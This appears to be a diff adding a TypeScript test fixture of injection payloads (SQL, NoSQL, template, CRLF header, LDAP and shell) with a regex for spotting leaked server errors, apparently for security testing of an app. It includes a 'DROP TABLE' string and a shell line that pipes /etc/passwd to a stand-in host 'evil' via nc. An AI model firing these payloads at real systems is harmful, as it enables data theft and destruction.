@@ -1,0 +1,44 @@
+/** Stands in every payload: whoever finds it in the text of a statement has found a hole. */
+export const MARK = 'zqx7';
+
+/** Ends of texts that mean something to a database, a template, a log or a shell, were they ever read by one. */
+export const INJECTIONS: string[] = [
+  `'`,
+  `"`,
+  `\\`,
+  `' OR '1'='1`,
+  `" OR ""="`,
+  `') OR ('1'='1' --`,
+  `'; SELECT pg_sleep(3); --`,
+  `' || pg_sleep(3) || '`,
+  `1; DROP TABLE orders; --`,
+  `' UNION SELECT NULL, version(), NULL --`,
+  `$1`,
+  `$$; SELECT 1; $$`,
+  `:id :name ?`,
+  `%_%\\`,
+  `a:* & !b | (c <-> d`,
+  `' & | ! ( ) : *`,
+  `name DESC, (SELECT 1)`,
+  `{"$gt": ""}`,
+  `->>'role' #>> '{a}'`,
+  `\${7*7} {{7*7}} <%= 7*7 %> #{7*7}`,
+  `%s%n%x`,
+  `\r\nSet-Cookie: stolen=1\r\n\r\n`,
+  `*)(uid=*))(|(uid=*`,
+  `; cat /etc/passwd | nc evil 1 & \`id\` $(id)`,
+];
+
+/** Those that show a hole soonest: the others are for `npm run torture`. */
+export const MEANEST = [
+  `'`,
+  `\\`,
+  `'; SELECT pg_sleep(3); --`,
+  `' & | ! ( ) : *`,
+  `{"$gt": ""}`,
+  `\r\nSet-Cookie: stolen=1\r\n\r\n`,
+];
+
+/** Words that only the inside of a server says. */
+export const INSIDE =
+  /syntax error|pg_|relation "|column "|unterminated|QueryFailed|typeorm|node_modules|at \w+ \(|SELECT |stack/i;
